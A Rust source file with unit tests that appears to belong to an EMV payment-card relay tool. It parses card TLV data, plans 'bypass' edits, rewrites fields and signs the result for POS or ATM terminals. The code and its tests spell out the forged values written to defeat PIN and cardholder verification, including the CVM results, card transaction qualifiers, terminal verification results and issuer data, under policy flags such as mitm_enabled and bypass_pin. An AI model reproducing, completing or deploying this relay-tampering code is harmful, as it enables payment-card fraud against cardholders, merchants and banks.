use thiserror::Error;
use tracing::{debug, info};

use crate::app::security::signer::{PayloadSigner, SignOutcome, SignerError};
use crate::app::service::bypass_engine::{self, TerminalKind};
use crate::app::service::card_analyzer;
use crate::app::service::policy_store::PolicyState;
use crate::app::service::tlv_codec::{self, EditError, EmvTags, TlvParseError};
use crate::models::card_info::CardInfo;
use crate::models::relay::{MitmSummary, RelayResponse};

/// One relay transformation failure; the caller maps this onto the
/// wire taxonomy or an HTTP status.
#[derive(Debug, Error)]
pub enum RelayError {
    #[error("TLV parse failed: {0}")]
    Parse(#[from] TlvParseError),
    #[error("edit plan rejected: {0}")]
    Edit(#[from] EditError),
    #[error("signing failed: {0}")]
    Signer(#[from] SignerError),
}

#[derive(Debug)]
pub enum RelayOutcome {
    /// block_all is engaged; the caller answers ERROR(BLOCKED).
    Blocked,
    Processed(Box<ProcessedRelay>),
}

#[derive(Debug)]
pub struct ProcessedRelay {
    pub response: RelayResponse,
    pub card: CardInfo,
    pub high_risk: bool,
}

/// Run one TLV buffer through analyze → plan → apply → sign.
///
/// Pure computation over request-local state; the policy snapshot and
/// key handle are read once and stay fixed for the call.
pub fn process_tlv(
    tlv_bytes: &[u8],
    terminal: TerminalKind,
    policy: &PolicyState,
    signer: &PayloadSigner,
) -> Result<RelayOutcome, RelayError> {
    let parsed = tlv_codec::parse(tlv_bytes)?;
    let card = card_analyzer::analyze(&parsed);
    let plan = bypass_engine::plan(&card, terminal, policy);

    if plan.blocked {
        info!("blocked by policy: {} at {}", card, terminal);
        return Ok(RelayOutcome::Blocked);
    }

    for edit in &plan.edits {
        debug!(
            "edit {} [{}]",
            edit.target_tag(),
            EmvTags::get_description(edit.target_tag())
        );
    }

    let modified = tlv_codec::apply(&parsed, &plan)?;
    let mut out_bytes = tlv_codec::serialize(&modified);

    // The signature covers the modified bytes; the signature node
    // itself rides along afterwards.
    let signature_tag_present = match signer.sign(&out_bytes)? {
        SignOutcome::Signed(node) => {
            let mut signed = modified;
            signed.push(node);
            out_bytes = tlv_codec::serialize(&signed);
            true
        }
        SignOutcome::Unsigned => false,
    };

    debug!(
        "relay processed: {} edits={} strategy={} p={:.2}",
        card,
        plan.edits.len(),
        plan.strategy.name,
        plan.success_probability
    );

    let response = RelayResponse {
        modified_tlv_hex: hex::encode_upper(&out_bytes),
        mitm: MitmSummary {
            applied_edits: plan.edits.iter().map(|e| e.summarize()).collect(),
            strategy: plan.strategy.clone(),
            signature_tag_present,
            success_probability: plan.success_probability,
        },
    };

    Ok(RelayOutcome::Processed(Box::new(ProcessedRelay {
        response,
        card,
        high_risk: plan.high_risk,
    })))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::app::service::tlv_codec::parse_hex;

    fn policy() -> PolicyState {
        PolicyState {
            mitm_enabled: true,
            bypass_pin: true,
            cdcvm_enabled: true,
            enhanced_limits: false,
            block_all: false,
            private_key_path: None,
        }
    }

    #[test]
    fn test_visa_credit_end_to_end_unsigned() {
        let tlv = tlv_codec::hex_to_bytes("5A0841111111111111119F070100").unwrap();
        let outcome = process_tlv(&tlv, TerminalKind::Pos, &policy(), &PayloadSigner::unsigned())
            .expect("processes");

        let RelayOutcome::Processed(processed) = outcome else {
            panic!("not blocked");
        };
        let out = parse_hex(&processed.response.modified_tlv_hex).expect("output re-parses");

        // PAN untouched, bypass fields written.
        assert_eq!(out.find("5A").unwrap().value_hex(), "4111111111111111");
        assert_eq!(out.find("9F34").unwrap().value_hex(), "1F0300");
        assert_eq!(out.find("9F6C").unwrap().value_hex(), "0000");
        assert_eq!(
            out.find("9F10").unwrap().value_hex(),
            "0110A00001220000000000000000000000FF"
        );
        assert_eq!(out.find("9F33").unwrap().value_hex(), "6068C8");
        assert_eq!(out.find("95").unwrap().value_hex(), "8000000000");

        // No key configured: no signature tag anywhere.
        assert!(out.find("9F45").is_none());
        assert!(!processed.response.mitm.signature_tag_present);
        assert!(!processed.response.mitm.applied_edits.is_empty());
    }

    #[test]
    fn test_blocked_policy_short_circuits() {
        let mut pol = policy();
        pol.block_all = true;
        let tlv = tlv_codec::hex_to_bytes("5A084111111111111111").unwrap();
        let outcome =
            process_tlv(&tlv, TerminalKind::Pos, &pol, &PayloadSigner::unsigned()).expect("ok");
        assert!(matches!(outcome, RelayOutcome::Blocked));
    }

    #[test]
    fn test_malformed_tlv_is_parse_error() {
        let err = process_tlv(
            &[0x5A, 0x08, 0x41],
            TerminalKind::Pos,
            &policy(),
            &PayloadSigner::unsigned(),
        )
        .unwrap_err();
        assert!(matches!(err, RelayError::Parse(TlvParseError::TruncatedBuffer)));
    }

    #[test]
    fn test_passthrough_when_mitm_disabled() {
        let mut pol = policy();
        pol.mitm_enabled = false;
        let tlv = tlv_codec::hex_to_bytes("5A0841111111111111119F070100").unwrap();
        let outcome =
            process_tlv(&tlv, TerminalKind::Pos, &pol, &PayloadSigner::unsigned()).expect("ok");
        let RelayOutcome::Processed(processed) = outcome else {
            panic!("not blocked");
        };
        assert_eq!(
            processed.response.modified_tlv_hex,
            "5A0841111111111111119F070100"
        );
        assert!(processed.response.mitm.applied_edits.is_empty());
    }

    #[test]
    fn test_processing_is_deterministic() {
        let tlv = tlv_codec::hex_to_bytes("5A0855555555555544449F070108").unwrap();
        let signer = PayloadSigner::unsigned();
        let a = process_tlv(&tlv, TerminalKind::Atm, &policy(), &signer).expect("ok");
        let b = process_tlv(&tlv, TerminalKind::Atm, &policy(), &signer).expect("ok");
        let (RelayOutcome::Processed(a), RelayOutcome::Processed(b)) = (a, b) else {
            panic!("not blocked");
        };
        assert_eq!(a.response.modified_tlv_hex, b.response.modified_tlv_hex);
    }
}
